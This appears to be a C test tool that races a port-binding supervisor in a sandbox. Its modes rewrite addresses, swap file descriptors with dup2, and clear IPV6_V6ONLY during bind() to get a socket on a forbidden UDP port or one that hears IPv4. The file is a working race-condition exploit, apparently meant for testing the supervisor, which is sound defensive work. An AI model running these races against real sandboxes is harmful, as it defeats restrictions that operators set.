/* SPDX-License-Identifier: MIT */
/*
 * Race a supervisor for a UDP port: bindrace ATTACK ALLOWED FORBIDDEN TRIES
 *
 * rewrite: another thread rewrites the address: the port is ALLOWED, FORBIDDEN
 *	and so on, while a UDP socket is bound to it.
 * swap-tcp, swap-unix, swap-netlink: another thread exchanges the descriptor,
 *	a socket of that kind, for a UDP socket; the address is FORBIDDEN.
 * both: as swap-tcp, and the address is rewritten as well.
 * v6only: another thread takes IPV6_V6ONLY away from a UDP socket while it is
 *	bound to FORBIDDEN, where only IPv6 is allowed.
 * locked: the same, on a socket whose own filter is locked.
 * mapped: no race: an address without a port first, then the wildcard, on a
 *	socket whose own filter is locked.
 * tcp-v6only: as v6only, but a TCP socket, which then listens.
 *
 * Ends at the first win: a UDP socket with the port FORBIDDEN, or one that
 * hears IPv4. Prints the tries, the wins, how many calls succeeded and failed.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char *attack;
static int allowed_port, forbidden_port;
static int decoy, udp, slot;
static volatile struct sockaddr_in address = {.sin_family = AF_INET};
static _Atomic int stop;
static _Atomic int target = -1, finished = 1;
static _Atomic unsigned int delay;

static int is(const char *name)
{
	return !strcmp(attack, name);
}

static void *change(void *unused)
{
	const int rewrites = is("rewrite") || is("both");
	const int swaps = !is("rewrite");

	while (!stop) {
		if (rewrites)
			address.sin_port = htons((uint16_t)forbidden_port);
		if (swaps)
			dup2(udp, slot);
		if (rewrites)
			address.sin_port = htons((uint16_t)allowed_port);
		if (swaps)
			dup2(decoy, slot);
	}
	return unused;
}

static void *strike_when_told(void *unused)
{
	const int off = 0;

	while (!stop) {
		int fd = target;

		if (fd < 0)
			continue;
		for (unsigned int i = delay; i; i--)
			__asm__ volatile("" ::: "memory");
		setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof(off));
		target = -1;
		finished = 1;
	}
	return unused;
}

static int port_of(int fd)
{
	struct sockaddr_in6 name = {0};
	socklen_t length = sizeof(name);

	if (getsockname(fd, (void *)&name, &length) < 0)
		return 0;
	return ntohs(name.sin6_port);
}

static int option_of(int fd, int level, int number)
{
	int value = 0;
	socklen_t length = sizeof(value);

	getsockopt(fd, level, number, &value, &length);
	return value;
}

static void lock_filter(int fd)
{
	struct sock_filter everything = {BPF_RET | BPF_K, 0, 0, 0xffffffff};
	struct sock_fprog program = {1, &everything};
	const int on = 1;

	setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof(program));
	setsockopt(fd, SOL_SOCKET, SO_LOCK_FILTER, &on, sizeof(on));
}

/* Whether a socket hears what is sent to its port over IPv4. */
static int hears_ipv4(int fd, int port)
{
	struct sockaddr_in to = {.sin_family = AF_INET,
				 .sin_port = htons((uint16_t)port)};
	int sender = socket(AF_INET, SOCK_DGRAM, 0);
	char byte;

	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	sendto(sender, "x", 1, 0, (void *)&to, sizeof(to));
	close(sender);
	return recv(fd, &byte, 1, MSG_DONTWAIT) == 1;
}

static int make_udp(void)
{
	return socket(AF_INET, SOCK_DGRAM, 0);
}

static int make_decoy(void)
{
	if (is("swap-unix"))
		return socket(AF_UNIX, SOCK_DGRAM, 0);
	if (is("swap-netlink"))
		return socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	return socket(AF_INET, SOCK_STREAM, 0);
}

/* Bind an IPv6 socket while V6ONLY is taken away. Returns whether it won. */
static int try_v6(int number, int *good)
{
	const int stream = is("tcp-v6only"), on = 1, off = 0;
	struct sockaddr_in6 wildcard = {
		.sin6_family = AF_INET6,
		.sin6_port = htons((uint16_t)forbidden_port)};
	int fd = socket(AF_INET6, stream ? SOCK_STREAM : SOCK_DGRAM, 0);
	int won, port;

	if (is("locked") || is("mapped"))
		lock_filter(fd);
	if (is("mapped")) {
		struct sockaddr_in6 mapped = {.sin6_family = AF_INET6};

		inet_pton(AF_INET6, "::ffff:127.0.0.1", &mapped.sin6_addr);
		setsockopt(fd, IPPROTO_IP, 24, &on, sizeof(on));
		bind(fd, (void *)&mapped, sizeof(mapped));
		setsockopt(fd, IPPROTO_IP, 24, &off, sizeof(off));
	} else {
		setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &on, sizeof(on));
		if (stream)
			setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on,
				   sizeof(on));
		delay = (unsigned int)number * 7919u % 60000u;
		finished = 0;
		target = fd;
	}
	*good = bind(fd, (void *)&wildcard, sizeof(wildcard)) == 0;
	while (!finished)
		;
	port = port_of(fd);
	if (stream) {
		listen(fd, 8);
		won = option_of(fd, SOL_SOCKET, SO_ACCEPTCONN) &&
		      !option_of(fd, IPPROTO_IPV6, IPV6_V6ONLY);
	} else {
		won = port && hears_ipv4(fd, port);
	}
	close(fd);
	return won;
}

static int try_v4(int *good)
{
	int won;

	if (is("rewrite"))
		slot = make_udp();
	*good = bind(slot, (const void *)&address, sizeof(address)) == 0;
	if (is("rewrite")) {
		won = port_of(slot) == forbidden_port;
		close(slot);
		return won;
	}
	won = port_of(udp) == forbidden_port;
	if (!won && port_of(udp)) {
		/* It is bound now: the next try needs a new one. */
		int fresh = make_udp();

		dup2(fresh, udp);
		close(fresh);
	}
	return won;
}

int main(int argc, char **argv)
{
	int v6, tries, most, wins = 0, good = 0, bad = 0, one;
	pthread_t thread;

	if (argc < 5)
		return 2;
	attack = argv[1];
	allowed_port = atoi(argv[2]);
	forbidden_port = atoi(argv[3]);
	most = atoi(argv[4]);
	v6 = is("v6only") || is("locked") || is("mapped") || is("tcp-v6only");

	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	address.sin_port = htons((uint16_t)forbidden_port);
	if (!v6) {
		udp = make_udp();
		decoy = make_decoy();
		slot = dup(decoy);
	}
	pthread_create(&thread, NULL, v6 ? strike_when_told : change, NULL);
	for (tries = 0; tries < most && !wins; tries++) {
		wins += v6 ? try_v6(tries, &one) : try_v4(&one);
		good += one;
		bad += !one;
	}
	stop = 1;
	pthread_join(thread, NULL);
	printf("tries: %d\nwins: %d\ngood: %d\nbad: %d\n", tries, wins, good,
	       bad);
	return 0;
}
